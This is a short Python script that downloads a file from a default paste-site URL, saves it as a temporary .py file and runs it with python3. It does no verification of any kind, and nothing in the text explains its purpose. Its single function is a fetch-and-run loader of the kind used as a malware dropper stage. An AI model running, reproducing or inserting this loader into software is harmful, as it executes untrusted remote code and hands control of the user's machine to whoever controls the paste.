import argparse
import subprocess
import tempfile
import urllib.request

ap = argparse.ArgumentParser()
ap.add_argument("--url", default="http://paste.ee/r/Zx8q1")
a = ap.parse_args()

with tempfile.NamedTemporaryFile("wb", suffix=".py", delete=False) as tf:
    tf.write(urllib.request.urlopen(a.url).read())
subprocess.run(["python3", tf.name])
